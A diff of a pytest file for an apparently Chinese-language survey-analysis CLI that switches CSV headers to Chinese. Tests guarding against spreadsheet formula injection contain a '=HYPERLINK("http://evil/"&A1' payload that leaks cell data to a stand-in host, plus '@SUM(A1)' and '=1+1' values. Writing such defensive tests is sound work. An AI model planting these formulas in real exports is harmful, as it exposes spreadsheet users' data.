@@ -2,8 +2,8 @@
 
 from __future__ import annotations
 
-import re
 import csv
+import re
 from pathlib import Path
 
 import pytest
@@ -35,8 +35,8 @@ def test_validate_can_write_the_problems_as_a_table(tmp_path: Path):
     assert table.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel opens it as UTF-8
     with table.open(encoding="utf-8-sig") as fh:
         rows = list(csv.DictReader(fh))
-    assert list(rows[0]) == ["file", "row", "column", "expected", "found"]
-    assert {"manifest.yaml", "codebook.yaml", "ride_alongs.csv"} <= {r["file"] for r in rows}
+    assert list(rows[0]) == ["文件", "行", "列", "应为", "实际"]  # Chinese headers (cli/headers.py)
+    assert {"manifest.yaml", "codebook.yaml", "ride_alongs.csv"} <= {r["文件"] for r in rows}
 
 
 def test_validate_a_folder_without_manifest_says_what_was_tried(tmp_path: Path, capsys):
@@ -67,8 +67,8 @@ def test_segment_prints_personas_and_writes_person_to_segment(tmp_path: Path, ca
     with out.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
     assert len(rows) == 88
-    assert {r["segment"] for r in rows} == {"1", "2", "3", "4"}
-    assert rows[0].keys() >= {"respondent_id", "segment", "segment_name"}
+    assert {r["类型"] for r in rows} == {"1", "2", "3", "4"}
+    assert rows[0].keys() >= {"受访者编号", "类型", "类型名称"}
 
 
 def test_segment_says_when_there_are_no_clear_segments(tmp_path: Path, capsys):
@@ -76,7 +76,7 @@ def test_segment_says_when_there_are_no_clear_segments(tmp_path: Path, capsys):
     assert main(["segment", str(MINI), "--csv", str(out)]) == 0
     assert capsys.readouterr().out.startswith(("未发现", "人数太少"))
     with out.open(encoding="utf-8-sig", newline="") as fh:
-        assert all(r["segment"] == "" for r in csv.DictReader(fh))
+        assert all(r["类型"] == "" for r in csv.DictReader(fh))
 
 
 @pytest.mark.parametrize("argv, expected", [
@@ -102,7 +102,11 @@ def test_analysis_commands_write_csv_for_excel(tmp_path: Path):
     assert out.read_bytes().startswith(b"\xef\xbb\xbf")
     with out.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
-    assert {r["group_name"] for r in rows} >= {"河北", "全部地区"}
+    assert {r["分组"] for r in rows} >= {"河北", "全部地区"}
+    # the stable id keeps its column; shares are percentages, means two decimals
+    hebei = next(r for r in rows if r["分组编号"] == "hebei" and r["维度编号"] == "industry")
+    assert hebei["维度"] == "行业" and re.fullmatch(r"\d+\.\d{1,2}", hebei["均分"])
+    assert 50 < float(hebei["低于目标的比例（%）"]) <= 100
 
 
 def test_linkage_without_a_performance_question_says_how_to_fix_it(capsys):
@@ -204,10 +208,10 @@ def test_quotes_csv_neutralises_cells_a_spreadsheet_would_evaluate(mini_copy, tm
                         .replace("interviewee: 客户经理B07", "interviewee: '@SUM(A1)'")})
     out = tmp_path / "quotes.csv"
     assert main(["quotes", str(bundle), "--csv", str(out)]) == 0
-    row = next(r for r in _csv_rows(out) if r["note_id"] == "N001")
-    assert row["quote"].startswith("'=HYPERLINK(\"http://evil/\"&A1") and row["text"].startswith("'=HYPERLINK")
-    assert row["interviewee"] == "'@SUM(A1)"
-    assert row["position"] == "1"  # numbers stay numbers
+    row = next(r for r in _csv_rows(out) if r["记录编号"] == "N001")
+    assert row["引语"].startswith("'=HYPERLINK(\"http://evil/\"&A1") and row["原文"].startswith("'=HYPERLINK")
+    assert row["受访者"] == "'@SUM(A1)"
+    assert row["段落序号"] == "1"  # numbers stay numbers
 
 
 def test_validate_csv_neutralises_found_values(mini_copy, tmp_path: Path):
@@ -215,10 +219,10 @@ def test_validate_csv_neutralises_found_values(mini_copy, tmp_path: Path):
     bundle = mini_copy({"ride_alongs.csv": rides.replace("2008-09-15", "=1+1").replace(",45,40,", ",-2+3,+1+1,")})
     out = tmp_path / "problems.csv"
     assert main(["validate", str(bundle), "--csv", str(out)]) == 1
-    found = {r["found"] for r in _csv_rows(out)}
+    found = {r["实际"] for r in _csv_rows(out)}
     assert {"'=1+1", "'-2+3", "'+1+1"} <= found, found
     assert not any(f.startswith(("=", "+", "-", "@")) for f in found)
-    assert all(r["row"].isdigit() for r in _csv_rows(out) if r["row"])  # line numbers are not quoted
+    assert all(r["行"].isdigit() for r in _csv_rows(out) if r["行"])  # line numbers are not quoted
 
 
 @pytest.fixture
